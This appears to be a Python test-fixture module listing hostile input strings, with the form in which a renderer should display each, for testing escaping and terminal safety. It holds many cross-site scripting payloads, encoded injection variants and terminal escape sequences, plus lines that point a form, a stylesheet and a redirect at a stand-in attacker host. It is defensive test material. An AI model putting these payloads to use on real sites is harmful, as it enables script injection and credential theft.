"""Texts that want to be more than text, and how each is to be shown."""

from __future__ import annotations

import unicodedata

from hypothesis import strategies as st

_PICTURES = {code: 0x2400 + code for code in range(32) if code not in (9, 10)} | {
    0x7F: 0x2421,
    **dict.fromkeys(range(0x80, 0xA0), 0xFFFD),
}
"""Control characters are shown by their pictures."""

_TEXTS = [
    # script
    "<script>window.pwned=1</script>",
    "</div></li></ol><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>click</a>",
    "javascript:window.pwned=1",
    "<details open ontoggle=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<math><mtext></mtext><style><img src=x onerror=window.pwned=1></style></math>",
    "<template><script>window.pwned=1</script></template>",
    "${window.pwned=1} {{window.pwned=1}} <%= window.pwned=1 %>",
    "';window.pwned=1;//\";window.pwned=1;//`;window.pwned=1;//",
    "<!--<img src=--><img src=x onerror=window.pwned=1>-->",
    "<scr\0ipt>window.pwned=1</scr\0ipt>",
    "\u2028window.pwned=1\u2029",
    # style and layout
    "<style>*{display:none!important}</style>",
    "<b style='position:fixed;inset:0;background:red'>everything</b>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/><input name=password></form>",
    # requests
    "<img src=http://127.0.0.1:9/pixel.gif>",
    "<video src=http://127.0.0.1:9/x autoplay></video>",
    "![](http://127.0.0.1:9/pixel.gif)",
    "[click](javascript:window.pwned=1)",
    # entities and encodings
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;amp; &#x3c; &nbsp;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    # links
    "http://<script>window.pwned=1</script>",
    'https://example.org/"onmouseover="window.pwned=1',
    "http://example.org'onclick='window.pwned=1",
    "https://user:password@example.org@evil.test/",
    "http:// https:// http://. https://[ http://%",
    "https://example.org/" + ")" * 2_000,
    # code
    "```<img src=x onerror=window.pwned=1>```",
    "`<img src=x onerror=window.pwned=1>`",
    "`" * 1_001,
    # directions, and what can not be seen
    "\u202eevil\u202c \u2066isolate\u2069 \u200fmark \u061c",
    "\u202e" * 500 + "backwards",
    "zero\u200bwidth\u200djoiner\u2060 \ufeff \u00ad",
    "שלום hello مرحبا 123",
    # signs
    "Z\u0351\u0343\u0334\u0319\u0324A\u0334\u0335\u0316L\u0320\u0328G\u0334\u033bO" * 50,
    "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀" * 100,
    "\x1b[31mred\x1b[0m \x07bell \x08\x08\x08 \x7f \x9b31m",
    "\0",
    "\ufffe\uffff\U0010ffff",
    # sizes
    "x" * 16_384,
    "\n" * 3_000 + "bottom",
    "𝕏" * 4_096,
]

HOSTILE = [(text, text.translate(_PICTURES)) for text in _TEXTS]
"""What is sent, and what is shown."""


def _cut_code(shown: str) -> str:
    """A block of code is shown without its fences, and code in a line without its quotes."""
    if shown.startswith("```<"):
        return shown[3:-3]
    return shown[1:-1] if shown.startswith("`<") else shown


HOSTILE = [(sent, _cut_code(shown)) for sent, shown in HOSTILE]


HARM = "\x1b[2J\x07\x9b1m\u202e\u2066\u2028\x7f\u200b\u200f\U000e0041"


anything = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Mn", "Lo"]), max_size=40),
    st.sampled_from([HARM, "\r\x1b]0;title\x07", "a\x08b", "\x1bc", "\u202eabc"]),
)


def is_harmless(shown: str) -> bool:
    """Whether a terminal does nothing for it but to show letters."""
    return all(
        unicodedata.category(letter) not in {"Cc", "Cs", "Zl", "Zp"}
        and unicodedata.bidirectional(letter)
        not in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
        and letter not in "\u200b\u200e\u200f\u061c\ufeff\u2060\u00ad"
        for letter in shown
    )
